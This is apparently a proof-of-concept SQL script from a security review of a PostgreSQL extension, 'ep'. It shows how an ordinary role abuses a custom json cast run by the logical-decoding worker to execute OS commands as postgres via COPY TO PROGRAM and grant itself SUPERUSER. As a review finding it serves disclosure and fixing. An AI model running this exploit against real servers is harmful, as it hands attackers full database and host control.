-- F1 (critical): an ordinary role runs its own code as the superuser inside the
-- worker's logical decoding, through a cast to json of a type it owns.
-- Run as eve (needs only CREATE on a schema of its own).
CREATE TYPE eve.mood AS ENUM ('happy');
CREATE FUNCTION eve.mood_json(m eve.mood) RETURNS json LANGUAGE plpgsql AS $$
BEGIN
  RAISE LOG 'F1 cast runs as user=%', current_user;
  IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
    -- OS command as the postgres OS user (no XID needed, survives the aborted decode)
    EXECUTE $x$COPY (SELECT 1) TO PROGRAM 'id > /tmp/ep_review_F1.txt; /opt/pg-review/usr/lib/postgresql/15/bin/psql -h /tmp -p 59432 -d postgres -c "ALTER ROLE eve SUPERUSER" >> /tmp/ep_review_F1.txt 2>&1'$x$;
  END IF;
  RETURN '"x"'::json;
END $$;
CREATE CAST (eve.mood AS json) WITH FUNCTION eve.mood_json(eve.mood);
CREATE TABLE eve.src(id int PRIMARY KEY, m eve.mood);
CREATE FUNCTION eve.th(op text, o jsonb, n jsonb) RETURNS void LANGUAGE sql AS $$ SELECT $$;
SELECT ep.create_table_projection('eve_tp', 'eve.src', 'eve.th(text,jsonb,jsonb)', 'eve, public');
SELECT pg_sleep(3);                      -- let the first round (table copy, runs as eve) pass
INSERT INTO eve.src VALUES (1, 'happy'); -- this change is decoded by the worker, as the superuser
SELECT pg_sleep(4);
SELECT rolname, rolsuper FROM pg_roles WHERE rolname = 'eve';   -- t
-- cat /tmp/ep_review_F1.txt  ->  uid=...(postgres) ... / ALTER ROLE
